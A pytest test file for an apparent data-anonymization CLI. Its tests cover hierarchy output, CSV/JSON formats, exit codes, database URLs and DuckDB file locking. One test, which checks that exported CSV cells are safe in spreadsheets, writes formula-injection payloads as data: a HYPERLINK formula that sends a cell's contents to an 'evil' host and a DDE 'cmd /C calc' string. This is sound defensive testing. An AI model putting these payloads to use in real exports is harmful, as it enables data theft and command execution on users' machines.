"""What a data owner reads: level labels, the hierarchy command, output formats, stable column types, exit
codes, URLs, NULLs in generated hierarchies, and a DuckDB file held by another process."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import sqlalchemy as sa

from sqlanon import load_job
from sqlanon.backends import normalize_url
from sqlanon.errors import ConfigError, HierarchyError
from sqlanon.model.hierarchies import generate_hierarchy

from .conftest import ADULT_DIR, ADULT_QIS, metadata_tables
from .test_cli import _expect_error, run, with_holes, write_config


def test_results_name_each_level_with_a_few_labels(tmp_path: Path):
    data = json.loads(run("anonymize", str(write_config(tmp_path)), "--json").stdout)
    assert data["level_examples"]["age"][0][:2] == ["1", "2"]  # level 0: original values
    assert data["level_examples"]["sex"][1] == ["*"]
    levels = data["node_levels"]
    assert list(levels) == ["sex", "age", "race"]
    age = levels["age"]
    assert age["height"] == 4 and age["examples"] == data["level_examples"]["age"][age["level"]]
    # the anonymize result ends with the first rows of the published table
    assert len(data["preview"]) == 5 and set(data["preview"][0]) >= {"sex", "age", "race"}
    human = run("anonymize", str(write_config(tmp_path)), "--replace").stdout
    assert "what the levels look like" in human and "the first 5 rows of adult_anon" in human
    assert f"age={age['level']} (e.g. {age['examples'][0]})" in human


def test_hierarchy_command_prints_file_and_generated_hierarchies(tmp_path: Path):
    config = write_config(
        tmp_path,
        quasi_identifiers={
            "sex": {"hierarchy": "hierarchies/sex.csv"},
            "age": {"generate": "intervals", "widths": [10, 20]},
            "race": {"hierarchy": "hierarchies/race.csv"},
        },
    )
    result = run("hierarchy", str(config), "age", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["quasi_identifier", "value", "level 1", "level 2", "level 3"]
    assert ["age", "39", "[30,40)", "[20,40)", "*"] in rows
    # generated from source.csv without loading it: no database file appears
    assert not (tmp_path / "adult.duckdb").exists()
    every = json.loads(run("hierarchy", str(config), "--json").stdout)
    assert list(every) == ["sex", "age", "race"] and every["sex"]["origin"].endswith("sex.csv")
    table = run("hierarchy", str(config), "age").stdout
    assert "generated intervals" in table and "--all for every one" in table
    unknown = run("hierarchy", str(config), "zipcode")
    assert unknown.exit_code == 2 and "quasi-identifiers: sex, age, race" in unknown.stderr


def test_csv_output_is_safe_to_open_in_a_spreadsheet(tmp_path: Path):
    """Hierarchy labels are data: a label that starts like a formula (=, +, -, @, a tab) is written with a
    leading apostrophe, so a spreadsheet shows it as text instead of running it; plain numbers stay numbers."""
    config = write_config(
        tmp_path,
        quasi_identifiers={
            "sex": {"hierarchy": "hierarchies/sex.csv"},
            "age": {"generate": "intervals", "widths": [10, 20]},
        },
    )
    (tmp_path / "hierarchies" / "sex.csv").write_text('Male;=HYPERLINK("http://evil/?x="&A1);*\nFemale;@SUM(1+1);*\n')
    cells = [
        cell
        for line in csv.reader(io.StringIO(run("hierarchy", str(config), "--format", "csv").stdout))
        for cell in line
    ]
    assert '\'=HYPERLINK("http://evil/?x="&A1)' in cells and "'@SUM(1+1)" in cells
    assert not any(cell[:1] in "=+@\t" for cell in cells if cell)
    assert "[30,40)" in cells  # other labels as they are
    from sqlanon.cli import _cell

    assert [_cell(v) for v in ("-5", "+1.5e3", "-", "-cmd|' /C calc'!A0", 7, None)] == [
        "-5",
        "+1.5e3",
        "'-",
        "'-cmd|' /C calc'!A0",
        7,
        "",
    ]  # numbers stay numbers


def test_figures_read_alike_in_every_table_and_stay_raw_in_csv(tmp_path: Path):
    """Whole numbers with thousands separators (an integral float too), others to 3 significant digits, never in
    exponent form from 1,000 up; CSV keeps the numbers as they are."""
    from sqlanon.cli import _shown_number

    shown = [_shown_number(v) for v in (55645460, 30162.0, 1005.4, 201.1, 10.49, 0.1938, 0, None, float("nan"))]
    assert shown == ["55,645,460", "30,162", "1,005", "201", "10.5", "0.194", "0", "-", "nan"]
    config = write_config(tmp_path)
    table = run("anonymize", str(config), "--replace").stdout
    assert "30,162 rows" in table and "e+0" not in table
    rest = [c for c in ADULT_QIS if c not in ("sex", "age", "race", "occupation")]
    config = write_config(tmp_path, sensitive=["occupation"], insensitive=rest)
    analysis = run("analyze", str(config), "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(analysis)))
    assert rows and all("," not in row["rows"] and float(row["rows"]) > 0 for row in rows)


def test_analyze_explains_each_figure_and_fits_120_columns(tmp_path: Path):
    """Every figure of `analyze` has a meaning under its table and in --help, and no line is wider than a
    120-column terminal (the widest release label of the Adult job with 9 QIs)."""
    rest = [c for c in ADULT_QIS if c not in ("sex", "age", "race", "education", "occupation")]
    qis = {q: {"hierarchy": f"hierarchies/{q}.csv"} for q in ("sex", "age", "race", "education")}
    config = write_config(tmp_path, quasi_identifiers=qis, sensitive=["occupation"], insensitive=rest)
    result = run("analyze", str(config))
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert max(len(line) for line in lines) <= 120
    for meaning in ("homogeneity attack", "re-identification risk is 1 / its class's size", "no flaw of the release"):
        assert meaning in " ".join(line.strip() for line in lines)
    help_text = run("analyze", "--help").output
    assert "negative: tuples of persons" in help_text and "loss: normalized certainty penalty" in help_text


def test_ctrl_c_prints_one_line_records_the_run_cancelled_and_leaves_nothing(tmp_path: Path):
    """SIGINT during a search (a real process, interrupted once its run is recorded as running): exit 130, one
    line on stderr, the run cancelled, no scratch table left, no output table."""
    import signal
    import time

    assert run("search", str(write_config(tmp_path))).exit_code == 0  # loads the table
    qis = {q: {"hierarchy": str(ADULT_DIR / "hierarchies" / f"{q}.csv")} for q in ADULT_QIS}  # a search of seconds
    strategy = {"strategy": "exhaustive"}
    config = write_config(tmp_path, quasi_identifiers=qis, insensitive=[], suppression={"limit": 0.1}, search=strategy)
    before = metadata_tables(f"duckdb:///{tmp_path / 'adult.duckdb'}")
    side = tmp_path / "adult.duckdb.sqlanon-run.json"
    side.unlink(missing_ok=True)
    process = subprocess.Popen(
        [sys.executable, "-m", "sqlanon", "anonymize", str(config)],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not (side.exists() and '"running"' in side.read_text()) and time.monotonic() < deadline:
        time.sleep(0.02)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr
    assert len(stderr.strip().splitlines()) == 1 and "interrupted" in stderr and "Traceback" not in stderr
    url = f"duckdb:///{tmp_path / 'adult.duckdb'}"
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        status, error = conn.exec_driver_sql(
            "SELECT status, error FROM sqlanon.runs ORDER BY run_id DESC LIMIT 1"
        ).one()
        tables = {r[0] for r in conn.exec_driver_sql("SELECT table_name FROM information_schema.tables")}
    engine.dispose()
    assert (status, error) == ("cancelled", "interrupted by the user (Ctrl-C)")
    assert "adult_anon" not in tables and metadata_tables(url) == before


def test_generated_hierarchies_map_nulls_with_a_label(tmp_path: Path):
    with_holes(tmp_path, "age", "race = 'Other'")
    source = {"url": "duckdb:///adult.duckdb", "table": "holes"}
    qis = {
        "sex": {"hierarchy": "hierarchies/sex.csv"},
        "age": {"generate": "intervals", "widths": [10, 20]},
        "race": {"hierarchy": "hierarchies/race.csv"},
    }
    config = write_config(tmp_path, source=source, output={"table": "holes_anon"}, quasi_identifiers=qis)
    _expect_error(tmp_path, config, "add `null: LABEL` to its generate options")
    qis["age"]["null"] = "unknown"
    config = write_config(tmp_path, source=source, output={"table": "holes_anon"}, quasi_identifiers=qis)
    result = run("anonymize", str(config), "--json")
    assert result.exit_code == 0, result.output
    level = json.loads(result.stdout)["node"][1]
    engine = sa.create_engine(f"duckdb:///{tmp_path / 'adult.duckdb'}")
    with engine.connect() as conn:
        ages = {r[0] for r in conn.exec_driver_sql("SELECT DISTINCT age FROM holes_anon")}
    engine.dispose()
    assert ("unknown" in ages) if level in (1, 2) else (None in ages if level == 0 else ages == {"*"})


def test_the_null_option_written_bare_in_yaml_is_the_option(tmp_path: Path):
    """YAML reads `null: unknown` as a key that is null, not the word; the job reads it as the option."""
    (tmp_path / "job.yaml").write_text(
        textwrap.dedent(
            """\
            source: {url: "duckdb:///db.duckdb", table: people}
            quasi_identifiers:
              age: {generate: intervals, widths: [10], null: unknown}
            criteria: {k_anonymity: {k: 2}}
            """
        )
    )
    [qi] = load_job(tmp_path / "job.yaml").quasi_identifiers
    assert qi.options == {"widths": [10], "null": "unknown"}
    assert ("", "unknown", "*") in generate_hierarchy("age", qi.generate or "", qi.options, ["5", "15"]).paths


def test_generator_null_label_and_mask_width_are_checked():
    paths = generate_hierarchy("zip", "mask", {"width": 5, "null": "unknown"}, ["2134", "13053"]).paths
    assert ("2134", "0213*", "021**", "02***", "0****", "*") in paths  # leading zero restored
    assert ("", "unknown", "unknown", "unknown", "unknown", "*") in paths
    with pytest.raises(ConfigError, match="already a label"):
        generate_hierarchy("zip", "mask", {"null": "1305*"}, ["13053"])
    with pytest.raises(HierarchyError, match="longer than width 4"):
        generate_hierarchy("zip", "mask", {"width": 4}, ["13053"])
    with pytest.raises(ConfigError, match="positive whole number"):
        generate_hierarchy("zip", "mask", {"width": "5"}, ["13053"])


def test_a_generalized_column_has_one_type_whatever_the_node(tmp_path: Path):
    types = set()
    for k in (1, 50):  # k=1 publishes every QI at level 0; k=50 generalizes them
        config = write_config(tmp_path, criteria={"k_anonymity": {"k": k}})
        result = run("anonymize", str(config), "--replace", "--json")
        assert result.exit_code == 0, result.output
        engine = sa.create_engine(f"duckdb:///{tmp_path / 'adult.duckdb'}")
        with engine.connect() as conn:
            types |= {
                tuple(r)
                for r in conn.exec_driver_sql(
                    "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'adult_anon' "
                    "AND column_name IN ('age', 'sex', 'race')"
                )
            }
        engine.dispose()
    assert types == {("age", "VARCHAR"), ("sex", "VARCHAR"), ("race", "VARCHAR")}


def test_csv_format_and_whole_tables_when_piped(tmp_path: Path):
    config = write_config(tmp_path)
    rows = list(csv.reader(io.StringIO(run("search", str(config), "--format", "csv").stdout)))
    assert rows[0] == ["sex", "age", "race", "height"] and len(rows) > 1
    assert all(int(r[3]) == sum(map(int, r[:3])) for r in rows[1:])
    run("anonymize", str(config))
    audit = run("audit", str(config), "--table", "adult_anon", "--format", "csv")
    assert audit.exit_code == 0
    assert next(csv.reader(io.StringIO(audit.stdout)))[0] == "criterion"
    # not a terminal: the metrics table keeps every column instead of being cut to 80
    wide = run("search", str(config), "--metrics").stdout
    assert max(len(line) for line in wide.splitlines()) > 80 and "…" not in wide


def test_exit_codes_and_debug_after_the_subcommand(tmp_path: Path):
    config = write_config(tmp_path)
    assert run("search", str(config), "--json", "--debug").exit_code == 0
    assert run("search", str(tmp_path / "missing.yaml")).exit_code == 2
    run("anonymize", str(config))
    source_audit = run("audit", str(config), "--table", "adult")  # the raw table is not 5-anonymous
    assert source_audit.exit_code == 1


def test_postgres_urls_are_accepted_and_other_schemes_named(tmp_path: Path):
    assert normalize_url("postgres://u@h/db", tmp_path) == "postgresql+psycopg://u@h/db"
    assert normalize_url("postgresql://u@h:5433/db", tmp_path) == "postgresql+psycopg://u@h:5433/db"
    assert normalize_url("postgresql+psycopg://u@h/db", tmp_path) == "postgresql+psycopg://u@h/db"
    with pytest.raises(ConfigError, match=r"'mysql' is not supported; use one of duckdb:///file.duckdb"):
        normalize_url("mysql://u@h/db", tmp_path)


@pytest.mark.parametrize("scheme, master", [("spark", "spark://spark-master:7077"), ("sc", "sc://spark-master:15002")])
def test_a_metadata_url_with_a_user_leaves_the_spark_master_in_place(tmp_path: Path, scheme: str, master: str):
    """The metadata store's URL names its user (me@db-host): its "@" is the query's, not the Spark URL's own
    credentials, so the master stays the host before the "?"."""
    from sqlalchemy import make_url

    from sqlanon.backends.spark_dbapi import spark_master

    port = master.rsplit(":", 1)[1]
    url = make_url(
        normalize_url(f"{scheme}://spark-master:{port}?metadata=postgresql%2Bpsycopg://me@db-host/db", tmp_path)
    )
    assert spark_master(url) == master and url.query["metadata"] == "postgresql+psycopg://me@db-host/db"


def test_a_duckdb_url_with_two_slashes_says_how_to_write_it(tmp_path: Path):
    """duckdb://file.duckdb reads the file as a host: one line naming the three-slash form, exit 2."""
    with pytest.raises(ConfigError, match=r"three slashes, duckdb:///adult.duckdb"):
        normalize_url("duckdb://adult.duckdb", tmp_path)
    config = write_config(tmp_path)
    result = run("search", str(config), "--db", "duckdb://adult.duckdb")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "duckdb:///adult.duckdb" in result.output and len(result.output.strip().splitlines()) == 1


def test_a_duckdb_file_held_by_another_process_names_it_and_its_progress(tmp_path: Path):
    """DuckDB lets one process open a file: the error says so (exit 2) and shows the progress file of the run
    that holds it, but not a stale one (another process's, or of a run no longer running)."""
    config = write_config(tmp_path)
    database = tmp_path / "adult.duckdb"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            textwrap.dedent(f"""
        import sys, time, duckdb
        held = duckdb.connect({str(database)!r})
        print("ready", flush=True)
        time.sleep(60)
    """),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    messages = []
    try:
        assert holder.stdout.readline().strip() == "ready"
        for pid, status in ((holder.pid, "running"), (1, "running"), (holder.pid, "finished")):
            (tmp_path / "adult.duckdb.sqlanon-run.json").write_text(
                json.dumps(
                    {
                        "run_id": 7,
                        "status": status,
                        "pid": pid,
                        "updated_at": "2026-01-01 00:00:00 UTC",
                        "iteration": 3,
                        "nodes_checked": 42,
                    }
                )
            )
            # another process too: within one process DuckDB shares an open file between connections
            result = subprocess.run(
                [sys.executable, "-m", "sqlanon", "search", str(config)], capture_output=True, text=True
            )
            assert result.returncode == 2, result.stdout + result.stderr
            messages.append(result.stderr)
    finally:
        holder.kill()
        holder.wait()
    assert all("another process has this DuckDB file open" in m and "Traceback" not in m for m in messages)
    assert f"run 7 (process {holder.pid}) is running: iteration 3, 42 nodes checked" in messages[0]
    assert not any("run 7" in m for m in messages[1:])  # another process's file, a finished run's


def test_a_database_file_in_a_missing_folder_names_the_folder(tmp_path: Path):
    """DuckDB cannot create a file in a folder that does not exist: the one-line error says which to create."""
    result = run("demo", "--db", str(tmp_path / "missing" / "adult.duckdb"))
    assert result.exit_code == 2, result.output
    message = result.stderr.strip()
    assert f"the folder {tmp_path / 'missing'} does not exist: create it" in message, message
    assert len(message.splitlines()) == 1 and "Traceback" not in result.output
    assert not (tmp_path / "missing").exists()


def test_a_run_writes_its_progress_beside_the_duckdb_file(tmp_path: Path):
    config = write_config(tmp_path)
    assert run("search", str(config)).exit_code == 0
    state = json.loads((tmp_path / "adult.duckdb.sqlanon-run.json").read_text())
    assert state["status"] == "finished" and state["run_id"] >= 1


def test_an_in_memory_database_has_no_progress_file(tmp_path: Path, monkeypatch):
    """However its URL is written (a job's URL comes back from SQLAlchemy as `duckdb:///%3Amemory%3A`), an
    in-memory database gets no progress file: none is left in the working folder."""
    from sqlanon.backends import progress_file

    assert progress_file("duckdb:///:memory:") is None and progress_file("duckdb:///%3Amemory%3A") is None
    assert progress_file("duckdb:///a b.duckdb?threads=1") == Path("a b.duckdb.sqlanon-run.json")
    monkeypatch.chdir(tmp_path)
    assert run("search", str(write_config(tmp_path)), "--db", "duckdb:///:memory:").exit_code == 0
    assert not list(tmp_path.glob("*.sqlanon-run.json"))


def test_demo_shows_what_suppression_buys(tmp_path: Path):
    result = run("demo", "--db", str(tmp_path / "demo.duckdb"), "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    published, without = data["metrics"][",".join(map(str, data["node"]))], data["without_suppression"]["metrics"]
    assert 0 < published["suppressed"] <= 0.02 * 30162 and without["suppressed"] == 0
    assert published["precision"] > without["precision"] and published["classes"] > without["classes"]
    assert data["audit"]["k_anonymity"]["holds"]
    table = run("demo", "--db", str(tmp_path / "demo.duckdb")).stdout
    assert "what suppression buys" in table and "lowest shown (--format csv lists every one)" in table


def test_a_policy_needs_the_data_only_for_the_chosen_node(tmp_path: Path):
    """Policies on levels alone pick among the minimal nodes without computing each one's data figures."""
    data = json.loads(run("anonymize", str(write_config(tmp_path)), "--json").stdout)
    assert len(data["minimal"]) > 1 and list(data["metrics"]) == [",".join(map(str, data["node"]))]
    lowest = min(sum(node) for node in data["minimal"])
    assert sum(data["node"]) == lowest


def test_duckdb_memory_limit_and_spill_folder_from_the_job_or_the_command_line(tmp_path: Path):
    from sqlanon.backends import default_memory_limit, open_database
    from sqlanon.config import check_memory_limit

    assert check_memory_limit("1.5 gib", "x") == "1.5GiB" and check_memory_limit("50%", "x") == "50%"
    with pytest.raises(ConfigError, match="not a memory size"):
        check_memory_limit("2 gallons", "source.memory_limit")
    db = open_database(f"duckdb:///{tmp_path / 'm.duckdb'}", "300MB", tmp_path / "spill")
    with db.connect() as conn:
        limit = conn.exec_driver_sql("SELECT current_setting('memory_limit')").scalar_one()
        spill = conn.exec_driver_sql("SELECT current_setting('temp_directory')").scalar_one()
    db.dispose()
    assert limit.startswith("286") and spill == str(tmp_path / "spill")  # 300 MB = 286.1 MiB
    assert default_memory_limit().endswith("MB")
    config = write_config(
        tmp_path,
        source={
            "url": "duckdb:///adult.duckdb",
            "table": "adult",
            "csv": str(Path(__file__).parent.parent / "sqlanon" / "data" / "adult" / "adult.csv.gz"),
            "csv_options": {"delimiter": ";"},
            "memory_limit": "lots",
        },
    )
    assert "source.memory_limit 'lots' is not a memory size" in run("search", str(config)).stderr
    config = write_config(tmp_path)
    result = run("search", str(config), "--memory-limit", "256MB", "--temp-directory", str(tmp_path / "t"), "--json")
    assert result.exit_code == 0 and (tmp_path / "t").is_dir()
    assert run("search", str(config), "--memory-limit", "much").exit_code == 2


def test_a_database_error_exits_2_in_one_line(tmp_path: Path, monkeypatch):
    import sqlanon.cli

    def failing(*args, **kwargs):
        raise sa.exc.OperationalError("SELECT 1", {}, Exception("server closed the connection\nmore detail"))

    monkeypatch.setattr(sqlanon.cli, "search", failing)
    result = run("search", str(write_config(tmp_path)))
    assert result.exit_code == 2
    assert result.stderr.strip() == ("database error: server closed the connection (rerun with --debug for details)")
